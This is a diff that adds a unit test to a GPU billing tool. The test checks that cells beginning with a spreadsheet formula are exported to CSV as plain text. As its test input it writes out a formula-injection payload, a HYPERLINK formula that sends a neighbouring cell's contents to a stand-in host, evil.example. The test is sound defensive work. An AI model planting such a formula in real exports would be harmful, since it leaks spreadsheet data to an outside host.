@@ -333,6 +333,20 @@ def test_by_gpu_model_is_one_gpu_model_column(pipeline: Path) -> None:
     assert [r[:3] for r in rows[1:3]] == [["group", "team-a", ""], ["idle", "", a100]]
 
 
+def test_a_group_named_like_a_formula_is_text_in_the_bill_csv() -> None:
+    """A device UUID is what a tenant's cache file says: `--by gpu` with one that is a formula
+    gives a cell with an apostrophe before it; the numbers (a negative residue among them) are
+    left as they are."""
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"GPU-0")'
+    third = Fraction(2, 3)  # 0.67 twice: the rounding residue is -0.01
+    group = Line("group", (evil,), HOUR_MS, HOUR_MS // 2, 0.0, third, third)
+    idle = Line("idle", ("@SUM(1)",), HOUR_MS // 2, 0, 0.0, third, third)
+    bill = Bill(["gpu"], "USD", [group], [idle], [])
+    rows = list(csv.reader(io.StringIO(to_csv(bill))))
+    assert [r[:3] for r in rows[1:3]] == [["group", "'" + evil, ""], ["idle", "", "'@SUM(1)"]]
+    assert rows[3][-2] == "-0.01"
+
+
 def test_discounts_by_namespace_and_label(pipeline: Path) -> None:
     prices = pipeline / "discount.toml"
     prices.write_text(PRICES + "[namespaces]\nresearch = -0.5\n[labels.team]\nvision = 0.1\n")
